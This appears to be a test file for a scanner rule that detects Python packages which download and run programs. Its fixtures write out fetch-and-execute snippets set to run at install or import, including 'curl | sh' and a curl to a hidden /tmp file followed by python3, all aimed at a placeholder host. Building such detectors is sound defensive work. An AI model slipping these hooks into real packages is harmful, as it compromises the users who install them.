"""Downloaded programs that are started."""

from lazaretto.detect.rules.python.downloads_and_runs import RULE


def test_at_import(scan):
    text = r"""import os, urllib.request
path = os.path.join(os.getenv("TEMP"), "a.exe")
urllib.request.urlretrieve("https://files.example.test/a.exe", path)
os.startfile(path)
"""
    assert scan(RULE, text, "package/__init__.py") == [(4, "HIGH", "HIGH", "import")]


def test_with_requests_and_open(scan):
    text = r"""import requests, subprocess
def get():
    answer = requests.get("https://files.example.test/a.bin")
    with open("/tmp/a.bin", "wb") as f:
        f.write(answer.content)
    subprocess.call(["/tmp/a.bin"])
get()
"""
    assert scan(RULE, text, "setup.py") == [(6, "HIGH", "HIGH", "install")]


def test_a_pipe_to_a_shell(scan):
    text = r"""import os
os.system("curl -fsSL https://files.example.test/x | sh")
"""
    assert scan(RULE, text, "setup.py") == [(2, "HIGH", "HIGH", "install")]


def test_two_commands(scan):
    text = r"""import os
os.system("curl -s https://files.example.test/x -o /tmp/.hidden.py")
os.system("python3 /tmp/.hidden.py")
"""
    assert scan(RULE, text, "package/__init__.py") == [(3, "HIGH", "HIGH", "import")]


def test_when_asked_it_is_context(scan):
    text = r"""import urllib.request, subprocess, sys
def install():
    urllib.request.urlretrieve("https://files.example.test/get-tool.py", "get-tool.py")
    subprocess.run([sys.executable, "get-tool.py"])
"""
    assert scan(RULE, text) == [(4, "MEDIUM", "LOW", "run")]


def test_near_miss_a_saved_data_set(scan):
    text = r"""import urllib.request, subprocess
urllib.request.urlretrieve("https://files.example.test/data.csv", "data.csv")
subprocess.run(["ls", "-l"])
"""
    assert scan(RULE, text) == []
